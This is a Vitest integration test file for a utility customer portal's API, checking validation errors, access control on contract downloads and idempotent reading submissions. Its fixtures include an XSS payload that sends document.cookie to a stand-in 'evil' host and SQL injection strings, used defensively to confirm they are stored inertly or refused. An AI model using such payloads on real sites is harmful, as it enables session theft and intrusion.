import { and, eq, sql } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import type { Db } from "@/db/client";
import {
  accountContracts,
  complaints,
  contracts,
  customers,
  meterRegisters,
  meters,
  premises,
  readings,
  workItems,
  type User,
} from "@/db/schema";
import { GET as getConsumptionCsv } from "@/app/api/contracts/[id]/consumption.csv/route";
import { GET as getStatementPdf } from "@/app/api/contracts/[id]/statement.pdf/route";
import { POST as postComplaint } from "@/app/api/v1/complaints/route";
import { POST as postLetter } from "@/app/api/v1/letters/route";
import { POST as postReading } from "@/app/api/v1/readings/route";
import { POST as postRequest } from "@/app/api/v1/requests/route";
import { errorSchema } from "@/lib/api/schemas";
import { DESCRIPTION_MAX } from "@/lib/complaints/schemas";
import { resetEnvCache } from "@/lib/env";
import en from "@/lib/i18n/messages/en.json";
import fr from "@/lib/i18n/messages/fr.json";
import { createTestDatabase } from "../helpers/db";
import { snapshotAll } from "../helpers/bad-input";
import { userByEmail } from "../helpers/workflow";

// The route handlers read the session through the guards and cookies through next/headers
// (request-bound outside Next): the test says who is signed in; handlers, validation and the
// database are real.
const session = vi.hoisted(() => ({ user: null as User | null }));
vi.mock("@/lib/auth/guards", async () => {
  const { AppError } = await import("@/lib/errors");
  const current = async () => session.user;
  const requireUser = async () => {
    if (!session.user) throw new AppError("UNAUTHENTICATED");
    return session.user;
  };
  return {
    getCurrentUser: current,
    requireUser,
    requireRole: async (...roles: string[]) => {
      const user = await requireUser();
      if (!roles.includes(user.role)) throw new AppError("FORBIDDEN");
      return user;
    },
    currentRequestMeta: async () => ({ ip: "203.0.113.9", userAgent: "vitest" }),
    isStaff: (u: Pick<User, "role">) => ["clerk", "supervisor", "admin"].includes(u.role),
  };
});
vi.mock("next/headers", () => ({
  cookies: async () => ({ get: () => undefined, getAll: () => [] }),
  headers: async () => new Headers(),
}));

let db: Db;
let customer: User;
let youssef: User;
let clerk: User;
const globalForDb = globalThis as unknown as { __waslaDb?: Db };

beforeAll(async () => {
  process.env.AUTH_SECRET ??= "integration-tests-secret-at-least-32-characters";
  resetEnvCache();
  ({ db } = await createTestDatabase());
  globalForDb.__waslaDb = db;
  customer = await userByEmail(db, "customer@wasla.example");
  youssef = await userByEmail(db, "youssef@wasla.example");
  clerk = await userByEmail(db, "clerk@wasla.example");
});
afterAll(() => {
  delete globalForDb.__waslaDb;
});

type Handler = (request: Request, context: never) => Promise<Response>;

function post(
  handler: Handler,
  path: string,
  body: string,
  {
    user = customer as User | null,
    type = "application/json",
    key = undefined as string | undefined,
  } = {},
) {
  session.user = user;
  const headers: Record<string, string> = { "accept-language": "fr" };
  if (type) headers["content-type"] = type;
  if (key) headers["idempotency-key"] = key;
  return handler(
    new Request(`http://localhost${path}`, { method: "POST", headers, body }),
    undefined as never,
  );
}

/** A 4xx with the project's error shape (code + localised message); returns the error. */
async function expectError(res: Response, status: number, code: string) {
  expect(res.status).toBe(status);
  const { error } = errorSchema.parse(await res.json());
  expect(error.code).toBe(code);
  expect(error.message).toBe((fr.errors as Record<string, string>)[code]);
  return error;
}

const ENDPOINTS: [string, Handler, string][] = [
  ["POST /api/v1/readings", postReading as Handler, "/api/v1/readings"],
  ["POST /api/v1/requests", postRequest as Handler, "/api/v1/requests"],
  ["POST /api/v1/letters", postLetter as Handler, "/api/v1/letters"],
  ["POST /api/v1/complaints", postComplaint as Handler, "/api/v1/complaints"],
];

describe("HTTP-level bad input: 4xx with the error shape, never 5xx, nothing stored", () => {
  for (const [name, handler, path] of ENDPOINTS) {
    it(`${name}: a body that is not JSON`, async () => {
      const before = await snapshotAll(db);
      await expectError(
        await post(handler, path, "contractNo=1&index=2", { type: "text/plain" }),
        415,
        "UNSUPPORTED_MEDIA_TYPE",
      );
      await expectError(
        await post(handler, path, "{}", { type: "" }),
        415,
        "UNSUPPORTED_MEDIA_TYPE",
      );
      await expectError(await post(handler, path, "{ not json", {}), 400, "VALIDATION_FAILED");
      await expectError(await post(handler, path, "", {}), 400, "VALIDATION_FAILED");
      expect(await snapshotAll(db)).toEqual(before);
    });

    it(`${name}: a body over the limit is 413`, async () => {
      const before = await snapshotAll(db);
      // Over the letters' 512 KiB, hence over every other route's 64 KiB too.
      const huge = JSON.stringify({ description: "x".repeat(600 * 1024) });
      await expectError(await post(handler, path, huge), 413, "PAYLOAD_TOO_LARGE");
      expect(await snapshotAll(db)).toEqual(before);
    });

    it(`${name}: JSON that is not an object (null, array, string, number)`, async () => {
      const before = await snapshotAll(db);
      for (const body of ["null", "[]", '"text"', "42", "[1,2,3]"]) {
        const res = await post(handler, path, body);
        expect(res.status, body).toBe(400);
        expect(errorSchema.parse(await res.json()).error.code).toBe("VALIDATION_FAILED");
      }
      expect(await snapshotAll(db)).toEqual(before);
    });
  }

  it("POST /api/v1/readings: wrong types (objects for strings, a string for the list)", async () => {
    const before = await snapshotAll(db);
    const bodies = [
      {
        contractNo: { $gt: "" },
        meterSerial: "ELE-2019-00451",
        readings: [{ register: "single", index: "12600" }],
      },
      {
        contractNo: "1000000101",
        meterSerial: ["ELE-2019-00451"],
        readings: [{ register: "single", index: "12600" }],
      },
      { contractNo: "1000000101", meterSerial: "ELE-2019-00451", readings: "12600" },
      {
        contractNo: "1000000101",
        meterSerial: "ELE-2019-00451",
        readings: [{ register: "single", index: { value: 12600 } }],
      },
      {
        contractNo: "1000000101",
        meterSerial: "ELE-2019-00451",
        readings: [{ register: "single", index: ["12600"] }],
      },
      {
        contractNo: 1000000101,
        meterSerial: "ELE-2019-00451",
        readings: [{ register: "single", index: "12600" }],
      },
      {
        contractNo: "1000000101",
        meterSerial: "ELE-2019-00451",
        readings: [{ register: "single", index: "12600" }],
        readAt: 1_700_000_000_000,
      },
    ];
    for (const body of bodies) {
      const error = await expectError(
        await post(postReading as Handler, "/api/v1/readings", JSON.stringify(body)),
        400,
        "VALIDATION_FAILED",
      );
      expect(Object.keys(error.fields ?? {}).length, JSON.stringify(body)).toBeGreaterThan(0);
    }
    expect(await snapshotAll(db)).toEqual(before);
  });

  it("POST /api/v1/requests: wrong types (a number for the service, arrays for objects)", async () => {
    const before = await snapshotAll(db);
    const valid = {
      typeCode: "new_connection",
      service: "water",
      detail: "15",
      applicant: {
        name: "Fatima",
        nationalId: "AB123456",
        phone: "0612345678",
        email: "f@example.ma",
      },
      premises: { addressLine: "1 rue", city: "El Jadida", use: "domestic" },
    };
    const bodies = [
      { ...valid, service: 5 },
      { ...valid, applicant: ["Fatima"] },
      { ...valid, premises: "1 rue, El Jadida" },
      { ...valid, typeCode: { code: "new_connection" } },
      { ...valid, documents: ["not", "a", "record"] },
      { ...valid, applicant: { ...valid.applicant, name: { first: "F" } } },
    ];
    for (const body of bodies) {
      const res = await post(postRequest as Handler, "/api/v1/requests", JSON.stringify(body));
      await expectError(res, 400, "VALIDATION_FAILED");
    }
    expect(await snapshotAll(db)).toEqual(before);
  });

  it("POST /api/v1/letters: wrong types (arrays for strings, a string for the sender)", async () => {
    const before = await snapshotAll(db);
    const valid = {
      category: "request",
      subject: "Demande d'attestation",
      message: "Je souhaite une attestation de non-dette.",
      sender: { name: "Fatima", nationalId: "AB123456", email: "f@example.ma" },
      consent: true,
    };
    const bodies = [
      { ...valid, subject: ["Demande"] },
      { ...valid, message: { text: "x" } },
      { ...valid, sender: "Fatima AB123456" },
      { ...valid, sender: { ...valid.sender, email: ["f@example.ma"] } },
      { ...valid, attachmentIds: "6f1c0c1e-0000-4000-8000-000000000000" },
      { ...valid, consent: "yes please" },
      { ...valid, category: 3 },
    ];
    for (const body of bodies) {
      const res = await post(postLetter as Handler, "/api/v1/letters", JSON.stringify(body));
      await expectError(res, 400, "VALIDATION_FAILED");
    }
    expect(await snapshotAll(db)).toEqual(before);
  });

  it("answers in the caller's language (Accept-Language)", async () => {
    session.user = customer;
    const res = await postReading(
      new Request("http://localhost/api/v1/readings", {
        method: "POST",
        headers: { "content-type": "text/plain", "accept-language": "en" },
        body: "x",
      }),
      undefined as never,
    );
    expect(res.status).toBe(415);
    expect(errorSchema.parse(await res.json()).error.message).toBe(
      en.errors.UNSUPPORTED_MEDIA_TYPE,
    );
  });
});

describe("POST /api/v1/complaints as staff (customerId, channel): 4xx and nothing filed", () => {
  const valid = () => ({
    customerId: customer.id,
    channel: "phone",
    category: "leak",
    contractNo: "2000000101",
    description: "Fuite d'eau devant le compteur depuis ce matin.",
  });
  const filedAs = (body: unknown) =>
    post(postComplaint as Handler, "/api/v1/complaints", JSON.stringify(body), { user: clerk });

  async function refused(body: unknown, field: string) {
    const before = await snapshotAll(db);
    const error = await expectError(await filedAs(body), 400, "VALIDATION_FAILED");
    expect(Object.keys(error.fields ?? {}), JSON.stringify(body).slice(0, 120)).toContain(field);
    // The field's message is a sentence of the catalogue, not a key.
    expect(Object.values(fr.validation)).toContain(error.fields![field]);
    expect(await snapshotAll(db)).toEqual(before);
  }

  it("an unknown kind", async () => {
    await refused({ ...valid(), category: "alien_invasion" }, "category");
    await refused({ ...valid(), channel: "pigeon" }, "channel");
  });

  it("missing fields", async () => {
    const { customerId: _a, ...noCustomer } = valid();
    await refused(noCustomer, "customerId");
    const { channel: _b, ...noChannel } = valid();
    await refused(noChannel, "channel");
    const { description: _c, ...noDescription } = valid();
    await refused(noDescription, "description");
    const { contractNo: _d, ...noContract } = valid();
    await refused(noContract, "contractNo");
  });

  it("an overlong description", async () => {
    await refused({ ...valid(), description: "ا".repeat(DESCRIPTION_MAX + 1) }, "description");
  });

  it("an unknown customer, a member of staff as customer, a malformed id", async () => {
    await refused({ ...valid(), customerId: "6f1c0c1e-0000-4000-8000-000000000000" }, "customerId");
    await refused({ ...valid(), customerId: clerk.id }, "customerId");
    await refused({ ...valid(), customerId: "1 or 1=1" }, "customerId");
  });

  it("an unknown contract", async () => {
    await refused({ ...valid(), contractNo: "9999999999" }, "contractNo");
  });

  it("a customer's contract filed for another customer is refused", async () => {
    // 2000000101 is the demo customer's, not Youssef's: the item would show Youssef another
    // person's contract under "My requests".
    await refused({ ...valid(), customerId: youssef.id }, "contractNo");
  });

  it("stores hostile markup as the text it is, once", async () => {
    const hostile = `<script>fetch("//evil/"+document.cookie)</script><b onmouseover=alert(1)>x</b>`;
    const before = await snapshotAll(db);
    const res = await filedAs({ ...valid(), description: hostile });
    expect(res.status).toBe(201);
    const { number } = (await res.json()) as { number: string };
    const after = await snapshotAll(db);
    expect(after.work_items).toBe(before.work_items! + 1);
    expect(after.complaints).toBe(before.complaints! + 1);
    const [row] = await db
      .select({ description: complaints.description, channel: workItems.channel })
      .from(workItems)
      .innerJoin(complaints, sql`${complaints.id} = ${workItems.subjectId}`)
      .where(eq(workItems.number, number));
    expect(row).toEqual({ description: hostile, channel: "phone" });
  });
});

describe("contract downloads: only the owner (or staff) gets them", () => {
  let own: string;
  let foreign: string;

  beforeAll(async () => {
    const rows = await db
      .select({ id: contracts.id, userId: accountContracts.userId, no: contracts.contractNo })
      .from(contracts)
      .innerJoin(accountContracts, eq(accountContracts.contractId, contracts.id));
    own = rows.find((r) => r.userId === customer.id && r.no === "1000000101")!.id;
    foreign = rows.find((r) => r.userId === youssef.id)!.id;
    // The foreign contract is not also linked to the customer.
    expect(rows.some((r) => r.userId === customer.id && r.id === foreign)).toBe(false);
  });

  const download = (handler: Handler, file: string, id: string, user: User) => {
    session.user = user;
    return handler(
      new Request(`http://localhost/api/contracts/${encodeURIComponent(id)}/${file}`, {
        headers: { "accept-language": "fr" },
      }),
      { params: Promise.resolve({ id }) } as never,
    );
  };
  const ROUTES: [string, Handler, string][] = [
    ["consumption.csv", getConsumptionCsv as Handler, "text/csv; charset=utf-8"],
    ["statement.pdf", getStatementPdf as Handler, "application/pdf"],
  ];

  for (const [file, handler, type] of ROUTES) {
    it(`${file}: the owner gets it with its content type`, async () => {
      const res = await download(handler, file, own, customer);
      expect(res.status).toBe(200);
      expect(res.headers.get("content-type")).toBe(type);
      const bytes = Buffer.from(await res.arrayBuffer());
      expect(bytes.length).toBeGreaterThan(0);
      if (file.endsWith(".pdf")) expect(bytes.subarray(0, 5).toString()).toBe("%PDF-");
    });

    it(`${file}: another customer's contract is 404`, async () => {
      await expectError(await download(handler, file, foreign, customer), 404, "NOT_FOUND");
      await expectError(await download(handler, file, own, youssef), 404, "NOT_FOUND");
    });

    it(`${file}: a malformed or unknown id is 404`, async () => {
      for (const id of [
        "not-a-uuid",
        "1' or '1'='1",
        "00000000-0000-0000-0000-000000000000",
        "٣",
      ]) {
        await expectError(await download(handler, file, id, customer), 404, "NOT_FOUND");
      }
    });
  }
});

describe("POST /api/v1/readings: a double submit with one Idempotency-Key", () => {
  it("stores one reading and answers the same both times", async () => {
    const DAY = 86_400_000;
    const now = Date.now();
    const [c] = await db
      .insert(customers)
      .values({ customerCode: "TIDEM00001", name: "Idem customer" })
      .returning();
    const [p] = await db
      .insert(premises)
      .values({ addressLine: "3 rue du Test", city: "El Jadida", zone: "IDEM-TEST" })
      .returning();
    const [k] = await db
      .insert(contracts)
      .values({
        contractNo: "9200000001",
        customerId: c!.id,
        premiseId: p!.id,
        service: "water",
        startDate: "2020-01-01",
      })
      .returning();
    const [m] = await db
      .insert(meters)
      .values({ contractId: k!.id, serial: "IDM-2026-00001", dials: 6, installedAt: "2020-01-01" })
      .returning();
    const [r] = await db.insert(meterRegisters).values({ meterId: m!.id }).returning();
    await db.insert(readings).values(
      [11625, 11865, 12105, 12345].map((index, i) => ({
        registerId: r!.id,
        index,
        readAt: new Date(now - (4 - i) * 30 * DAY),
        source: "agent" as const,
        status: "accepted" as const,
      })),
    );
    await db.insert(accountContracts).values({ userId: customer.id, contractId: k!.id });

    const body = JSON.stringify({
      contractNo: "9200000001",
      meterSerial: "IDM-2026-00001",
      readings: [{ register: "single", index: "١٢٦٠٠" }],
    });
    const selfRows = () =>
      db
        .select()
        .from(readings)
        .where(and(eq(readings.registerId, r!.id), eq(readings.source, "self")));
    const before = await snapshotAll(db);

    const first = await post(postReading as Handler, "/api/v1/readings", body, {
      key: "tap-tap-1",
    });
    expect(first.status).toBe(201);
    const firstBody = await first.json();
    const afterFirst = await snapshotAll(db);
    const second = await post(postReading as Handler, "/api/v1/readings", body, {
      key: "tap-tap-1",
    });
    expect(second.status).toBe(201);
    expect(await second.json()).toEqual(firstBody);

    const rows = await selfRows();
    expect(rows).toHaveLength(1);
    expect(Number(rows[0]!.index)).toBe(12600);
    expect(afterFirst.readings).toBe(before.readings! + 1);
    // The replay wrote nothing at all: every table as after the first answer.
    expect(await snapshotAll(db)).toEqual(afterFirst);

    // The same key with another index is not a replay: refused, still one reading.
    const changed = body.replace("١٢٦٠٠", "12700");
    const conflict = await post(postReading as Handler, "/api/v1/readings", changed, {
      key: "tap-tap-1",
    });
    expect(conflict.status).toBeGreaterThanOrEqual(400);
    expect(conflict.status).toBeLessThan(500);
    expect(await selfRows()).toHaveLength(1);
  });
});
